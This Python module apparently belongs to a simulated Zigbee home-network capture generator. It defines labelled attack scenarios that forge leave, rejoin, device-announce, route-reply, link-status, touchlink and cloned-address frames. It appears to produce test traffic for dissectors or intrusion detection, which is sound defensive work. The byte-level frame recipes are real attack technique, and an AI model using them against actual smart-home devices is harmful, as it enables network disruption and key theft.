"""Forged NWK, ZDP and inter-PAN frames: leave, rejoin, announce, routes, link status, touchlink."""

from __future__ import annotations

import struct

from captures.simulated.air.medium import Place, Wait
from captures.simulated.faults.registry import Play, fault
from captures.simulated.stack.inter_pan import inter_pan
from captures.simulated.stack.joining import deliver_network_key
from captures.simulated.stack.network import Role
from captures.simulated.stack.node import Node
from dissectors.zigbee import assemble

__all__: list[str] = []


def insider_frame(play: Play, alias: Node, payload: bytes, dst: int, *, command: bool, counter: int) -> bytes:
    """A frame under the network key (which the attacker has) in the name of `alias`."""
    han = play.han
    header = assemble.nwk_header(dst, alias.short, play.rng.randrange(256), command=command)
    npdu = assemble.secure_nwk(
        header, payload, han.key, counter=counter, source=alias.eui64, key_seq=han.key_seq
    )
    broadcast = dst >= 0xFFF8
    mac_dst = 0xFFFF if broadcast else dst
    return assemble.mac_data(play.rng.randrange(256), han.pan, mac_dst, alias.short, npdu, ack=not broadcast)


@fault("insecure-rejoin", "A rejoin without security is answered with the network key", attack="A20")
def insecure_rejoin(play: Play) -> Wait:
    victim, han = play.victim(Role.PPMID, Role.IHD, Role.CAD), play.han
    header = assemble.nwk_header(
        0, victim.short, victim.next_nwk(), command=True, secured=False, radius=1,
        src_eui64=victim.eui64, dst_eui64=han.hub.eui64,
    )  # fmt: skip
    octets = assemble.mac_data(
        victim.next_mac(), han.pan, 0, victim.short, header + b"\x06" + b"\x8e", ack=True
    )
    yield from play.send(victim, octets, han.hub, nwk_command=6)
    yield play.wait(0.2, 0.4)
    yield from deliver_network_key(han.hub, victim, victim.join_key, faults=play.mark)


@fault("leave-spoof", "A leave request without security, in the hub's name", attack="A21")
def leave_spoof(play: Play) -> Wait:
    attacker, han = play.intruder(), play.han
    for _ in range(play.count(2)):
        victim = play.victim()
        header = assemble.nwk_header(
            victim.short, 0, play.rng.randrange(256), command=True, secured=False, radius=1,
            src_eui64=han.hub.eui64, dst_eui64=victim.eui64,
        )  # fmt: skip
        octets = assemble.mac_data(
            play.rng.randrange(256), han.pan, victim.short, 0, header + b"\x04\x40", ack=True
        )
        yield from play.send(attacker, octets, victim if victim.rx_on else None, nwk_command=4)
        yield play.wait(4, 12)


@fault("announce-spoof", "A device announce moves a live device to another short address", attack="A23")
def announce_spoof(play: Play) -> Wait:
    attacker, victim = play.intruder(), play.victim(Role.ESME, Role.PPMID, Role.IHD, Role.CAD)
    alias = play.victim()
    for step in range(play.count(2)):
        short = play.rng.randrange(0x1000, 0xF000)
        asdu = struct.pack("<BHQB", 0x80 + step, short, victim.eui64, 0x8E)
        header = assemble.aps_data(0x0013, 0, 0, 0, play.rng.randrange(256), broadcast=True)
        counter = alias.nwk_counter + 20_000 + step
        octets = insider_frame(play, alias, header + asdu, 0xFFFD, command=False, counter=counter)
        yield from play.send(attacker, octets, nwk_counter=counter)
        yield play.wait(2, 6)
    play.row.device = victim.address


@fault(
    "child-update-spoof", "End-device timeout requests in a child's name, from another place", attack="A24"
)
def child_update_spoof(play: Play) -> Wait:
    victim = play.victim()
    attacker = play.intruder(Place(16, -9, walls=3))
    for step in range(play.count(5)):
        counter = victim.nwk_counter + 15_000 + step
        octets = insider_frame(play, victim, bytes([0x0B, 0x00, 0x00]), 0, command=True, counter=counter)
        yield from play.send(attacker, octets, play.han.hub, nwk_command=0x0B, nwk_counter=counter)
        yield play.wait(2, 8)


@fault("touchlink", "Touchlink scan, identify and reset frames next to the home", attack="A25")
def touchlink(play: Play) -> Wait:
    attacker = play.intruder()
    transaction = play.rng.getrandbits(32)
    for command, body in ((0x00, b"\x05\x12"), (0x06, b"\x0a\x00"), (0x07, b""), (0x00, b"\x05\x12")):
        for _ in range(play.count(2)):
            zcl = struct.pack("<BBBI", 0x11, play.rng.randrange(256), command, transaction) + body
            yield from play.send(attacker, inter_pan(attacker, 0x1000, 0xC05E, zcl), aps_cluster=0x1000)
            yield play.wait(0.2, 0.6)


@fault("inter-pan", "Inter-PAN key establishment long after the hub's power-on", attack="A26")
def inter_pan_late(play: Play) -> Wait:
    attacker, hub = play.intruder(), play.han.hub
    yield play.wait(10, 20)
    for step in range(play.count(4)):
        certificate = play.rng.randbytes(74)
        zcl = bytes([0x01, step, 0x00, 0x02, 0x00, 0x0A, 0x0A]) + certificate
        octets = inter_pan(attacker, 0x0800, 0x0109, zcl, hub.eui64)
        yield from play.send(attacker, octets, hub, aps_cluster=0x0800)
        yield play.wait(3, 9)


@fault("sinkhole", "Route replies of cost one from a device that is not a neighbour", attack="A37")
def sinkhole(play: Play) -> Wait:
    attacker, alias, han = play.intruder(), play.victim(Role.CAD, Role.IHD, Role.PPMID), play.han
    for step in range(play.count(5)):
        target = play.victim()
        body = bytes([0x02, 0x00, step]) + struct.pack("<HHB", 0, target.short, 1)
        counter = alias.nwk_counter + 12_000 + step
        octets = insider_frame(play, alias, body, 0, command=True, counter=counter)
        yield from play.send(attacker, octets, han.hub, nwk_command=2, nwk_counter=counter)
        yield play.wait(3, 10)
    play.row.device = alias.address


@fault("link-status-forgery", "A second stream of link status frames for one address", attack="A38")
def link_status_forgery(play: Play) -> Wait:
    attacker, _han = play.intruder(), play.han
    alias = play.victim(Role.ESME, Role.HCALCS)
    for step in range(play.count(8)):
        body = bytes([0x08, 0x61]) + struct.pack("<HB", 0, 0x11)
        counter = alias.nwk_counter + 30_000 + step
        octets = insider_frame(play, alias, body, 0xFFFC, command=True, counter=counter)
        yield from play.send(attacker, octets, nwk_command=8, nwk_counter=counter)
        yield play.wait(13, 17)


@fault("cloned-address", "A second radio sends under a device's address, with its own counters", attack="A39")
def cloned_address(play: Play) -> Wait:
    victim = play.victim(Role.ESME, Role.PPMID, Role.IHD, Role.CAD)
    attacker = play.intruder(Place(1, -1))
    attacker.mac_seq = (victim.mac_seq + 128) & 0xFF
    for step in range(play.count(20)):
        header = assemble.aps_data(0x000A, 0x0109, 1, 1, play.rng.randrange(256))
        counter = victim.nwk_counter + 50_000 + step
        nwk = assemble.nwk_header(0, victim.short, play.rng.randrange(256))
        npdu = assemble.secure_nwk(
            nwk, header + b"\x10\x01\x00\x00\x00", play.han.key, counter=counter, source=victim.eui64,
            key_seq=play.han.key_seq,
        )  # fmt: skip
        octets = assemble.mac_data(attacker.next_mac(), play.han.pan, 0, victim.short, npdu, ack=True)
        yield from play.send(attacker, octets, play.han.hub, nwk_counter=counter)
        yield play.wait(2, 10)
